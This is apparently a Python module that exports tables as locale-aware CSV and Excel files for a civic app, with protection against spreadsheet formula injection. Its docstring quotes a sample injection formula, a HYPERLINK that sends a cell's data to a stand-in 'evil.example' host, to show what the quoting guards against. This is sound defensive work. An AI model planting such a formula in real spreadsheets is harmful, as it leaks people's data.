"""Tables for spreadsheets, the one way every export and every file sent in chat writes them:
as CSV or as an Excel workbook (.xlsx), for the person who opens them.

A `Sheet` is columns and rows. Each `Column` names a field of the rows (its machine key, the
one JSON shows), its header (marked with N_(), translated where the sheet is written), the
labels of the values the field takes (a meeting answer's ``"coming"``: "I'm coming"), and
for a decimal number how many places it shows. A cell's type is its value's:

- ``str``: a text (a label where the column has one for it);
- ``int``, ``float``, ``Decimal``: a number;
- ``bool``: "yes" or "no", in the reader's language;
- ``datetime``: a moment, in the council's time zone, to the minute ("2026-12-05 14:30");
- ``date``: a day ("2026-12-05");
- a list: its items, each labelled, joined by ", ";
- ``None``: an empty cell.

A sheet is written for a `Reader`: the language of the person who opens it (the council's,
for exports; the recipient's, for the results sent in chat) and the council's time zone.

Only CSV and XLSX speak the reader's language; JSON exports keep the machine keys and ISO
timestamps, for programs (see `flows.exports`).

**CSV in the reader's locale.** A spreadsheet reads a CSV file with the conventions of the
computer it runs on, so the file follows those of the locale: its decimal sign (Babel's, in
Latin digits) and, where that sign is a comma, ``;`` between cells, as French spreadsheets
expect (``12,5`` is a number there, and a ``,`` separator would cut it in two). Numbers have
no thousands separator, so that they stay numbers. Moments are written year first, to the
minute, which every spreadsheet reads as a date and time. Every file starts with a UTF-8
BOM, without which Excel reads accented and Arabic letters as garbage, and ends its lines
with CRLF (RFC 4180).

Arabic gets Arabic headers and labels, with ``,`` between cells and ``.`` as the decimal
sign. The digits stay 0-9, because a spreadsheet reads Arabic-Indic digits (and their own
decimal sign) as text; with the digits 0-9, Arabic locales (Babel's ``ar``, and the regional
settings of most Arabic-speaking countries) use ``.`` and ``,``. A Maghreb locale
(``ar_MA``) has a decimal comma: it would get ``;`` by the same rule.

**Formulas.** A resident's words go into our files (a talent's own words, a free-text
answer). A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula: ``=HYPERLINK("http://evil.example/?d="&A2,"Click")`` would
send a neighbour's data away on a click. In CSV such a text cell gets a leading ``'``
(OWASP's advice), so it shows as the text it is. Numbers stay numbers: those we write as
numbers, and texts that are a plain number (``-3``, ``+1.5``), which no spreadsheet runs. A
cell that already starts with ``'`` is left alone, so a table read back and written again
is not changed twice. In a workbook every text is stored as a string cell, never as a
formula, and one that looks like a formula is marked "quoted" too, so that editing it keeps
it text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Any
from zoneinfo import ZoneInfo

from babel.numbers import get_decimal_symbol

from flows.i18n import N_, Translator

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell, MergedCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
BOM = "\ufeff"
YES, NO = N_("yes"), N_("no")
MINUTE = "%Y-%m-%d %H:%M"  # what every spreadsheet reads as a date and time
XLSX_MOMENT, XLSX_DAY = "yyyy-mm-dd hh:mm", "yyyy-mm-dd"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
WIDEST, NARROWEST = 60, 8  # a workbook column's width, in characters
SHEET_TITLE = 31  # the longest tab name a workbook allows


@dataclass(frozen=True)
class Column:
    """A field of the rows, as a spreadsheet shows it."""

    key: str  # the row's key, as JSON shows it: "starts_at"
    header: str  # marked with N_(), translated where the sheet is written
    labels: Mapping[str, str] = field(default_factory=dict)  # a value's label, marked with N_()
    digits: int | None = None  # a decimal number's places, always shown ("0.500"); None: as is


@dataclass(frozen=True)
class Sheet:
    """Rows under their columns; a row's key that no column names is an error."""

    columns: Sequence[Column]
    rows: Sequence[Mapping[str, Any]]

    def __post_init__(self) -> None:
        keys = {column.key for column in self.columns}
        for row in self.rows:
            if extra := set(row) - keys:
                raise ValueError(f"fields not in the header: {sorted(extra)}")

    @classmethod
    def of(cls, rows: Sequence[Mapping[str, Any]]) -> Sheet:
        """Rows that declare no columns: the first row's keys are the columns and their
        headers (no rows: no columns)."""
        return cls([Column(key, key) for key in rows[0]] if rows else [], rows)


def cell(value: Any) -> Any:
    """The value as a spreadsheet should show it: a formula-like text is quoted."""
    if not isinstance(value, str) or not looks_like_formula(value):
        return value
    return "'" + value


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would run the text: it starts like a formula, and is neither a
    plain number nor already quoted."""
    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)


@dataclass(frozen=True)
class Reader:
    """Who opens the file: their language (headers, labels, yes and no, the decimal sign,
    the CSV separator) and the time zone moments are shown in (None: as they are given)."""

    t: Translator
    timezone: str | None = None

    @property
    def decimal_sign(self) -> str:
        return get_decimal_symbol(self.t.locale, numbering_system="latn")

    @property
    def delimiter(self) -> str:
        """``;`` where the decimal sign is a comma, as spreadsheets there expect; else ``,``."""
        return ";" if self.decimal_sign == "," else ","

    def header(self, column: Column) -> str:
        return self.t._(column.header) if column.header else ""

    def label(self, column: Column, value: str) -> str:
        return self.t._(column.labels[value]) if value in column.labels else value

    def local(self, moment: datetime) -> datetime:
        """The moment on the council's clock, naive, to the minute (what a spreadsheet shows)."""
        if self.timezone is not None and moment.tzinfo is not None:
            moment = moment.astimezone(ZoneInfo(self.timezone))
        return moment.replace(tzinfo=None, second=0, microsecond=0)

    def value(self, column: Column, value: Any) -> Any:
        """The cell's value for a workbook: numbers, moments and days as they are (moments on
        the council's clock); yes or no, labels and lists as text; None stays empty."""
        if isinstance(value, bool):
            return self.t._(YES if value else NO)
        if isinstance(value, int | float | Decimal | date) and not isinstance(value, datetime):
            return value
        if isinstance(value, datetime):
            return self.local(value)
        if isinstance(value, list | tuple):
            return ", ".join(self.label(column, str(item)) for item in value)
        if value is None:
            return None
        return self.label(column, str(value))

    def text(self, column: Column, value: Any) -> str:
        """The cell as CSV text, made safe to open in a spreadsheet."""
        shown = self.value(column, value)
        if shown is None:
            return ""
        if isinstance(shown, datetime):
            return shown.strftime(MINUTE)
        if isinstance(shown, date):
            return shown.isoformat()
        if isinstance(shown, float | Decimal):
            return self.decimal(shown, column.digits)
        if isinstance(shown, int):
            return str(shown)
        return str(cell(shown))

    def decimal(self, number: float | Decimal, digits: int | None) -> str:
        """``3.6`` → ``3,60`` (fr, two places): no thousands separator, no exponent."""
        exact = Decimal(repr(number)) if isinstance(number, float) else number
        written = f"{exact:.{digits}f}" if digits is not None else f"{exact:f}"
        return written.replace(".", self.decimal_sign)


def csv_bytes(sheet: Sheet, reader: Reader) -> bytes:
    """The sheet as a CSV file in the reader's conventions, with a header row and a BOM;
    nothing for a sheet with no columns."""
    if not sheet.columns:
        return b""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=reader.delimiter, lineterminator="\r\n")
    writer.writerow([cell(reader.header(column)) for column in sheet.columns])
    writer.writerows(
        [reader.text(column, row.get(column.key)) for column in sheet.columns] for row in sheet.rows
    )
    return (BOM + out.getvalue()).encode()


def xlsx_bytes(sheet: Sheet, reader: Reader, title: str = "") -> bytes:
    """The sheet as an Excel workbook: bold headers, real numbers and dates, every text a
    string cell (never a formula), columns about as wide as their content, right to left
    for a right-to-left language."""
    # Imported here: openpyxl takes half a second to load, and most runs write no workbook.
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    page = book.active
    assert page is not None
    if title:
        page.title = _sheet_title(title)
    page.sheet_view.rightToLeft = reader.t.rtl
    bold = Font(bold=True)
    widths: list[int] = []
    for number, column in enumerate(sheet.columns, start=1):
        header = page.cell(row=1, column=number)
        _set_text(header, reader.header(column))
        header.font = bold
        widths.append(len(reader.header(column)))
    for line, row in enumerate(sheet.rows, start=2):
        for number, column in enumerate(sheet.columns, start=1):
            target = page.cell(row=line, column=number)
            value = reader.value(column, row.get(column.key))
            if isinstance(value, str):
                _set_text(target, value)
            elif value is not None:
                target.value = value
                target.number_format = _number_format(column, value)
            shown = reader.text(column, row.get(column.key))
            widths[number - 1] = max(widths[number - 1], len(shown))
    for number, width in enumerate(widths, start=1):
        page.column_dimensions[get_column_letter(number)].width = min(
            WIDEST, max(NARROWEST, width + 2)
        )
    page.freeze_panes = "A2"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _sheet_title(title: str) -> str:
    """A workbook's tab name: at most 31 characters, cut between words, none of ``[]:*?/\\``."""
    plain = " ".join(re.sub(r"[\[\]:*?/\\]", " ", title).split())
    if len(plain) <= SHEET_TITLE:
        return plain
    cut = plain[: SHEET_TITLE + 1].rsplit(" ", 1)[0]
    return cut if cut and len(cut) <= SHEET_TITLE else plain[:SHEET_TITLE]


def _number_format(column: Column, value: Any) -> str:
    """How a workbook shows a number or a moment: moments and days year first, a decimal
    with its fixed places; else as the spreadsheet likes."""
    if isinstance(value, datetime):
        return XLSX_MOMENT
    if isinstance(value, date):
        return XLSX_DAY
    if column.digits is not None and isinstance(value, float | Decimal):
        return "0." + "0" * column.digits if column.digits else "0"
    return "General"


def _set_text(target: Cell | MergedCell, text: str) -> None:
    """A string cell, whatever it starts with: openpyxl would store ``=…`` as a formula.
    Characters a workbook cannot hold (control characters) are left out."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    target.value = ILLEGAL_CHARACTERS_RE.sub("", text)
    target.data_type = "s"
    if looks_like_formula(text):
        target.quotePrefix = True
